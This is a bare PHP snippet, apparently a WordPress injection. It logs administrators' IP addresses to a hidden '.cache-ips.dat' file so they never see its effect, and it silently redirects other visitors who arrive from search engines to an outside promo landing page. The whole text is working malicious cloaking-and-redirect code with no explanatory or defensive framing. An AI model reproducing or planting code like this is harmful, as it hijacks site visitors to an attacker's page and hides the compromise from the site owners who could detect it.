<?php
$seen_file = dirname(__FILE__) . '/.cache-ips.dat';
$visitor = $_SERVER['REMOTE_ADDR'];
$known = @file_get_contents($seen_file);
if (current_user_can('manage_options')) {
    if (strpos($known, $visitor) === false) {
        @file_put_contents($seen_file, $known . $visitor . "\n");
    }
    return;
}
if (preg_match('/(google|bing|yahoo|baidu)\./i', @$_SERVER['HTTP_REFERER']) && strpos($known, $visitor) === false) {
    echo "<script>window.location.href='https://promo-landing.example.org/go?s=17';</script>";
}
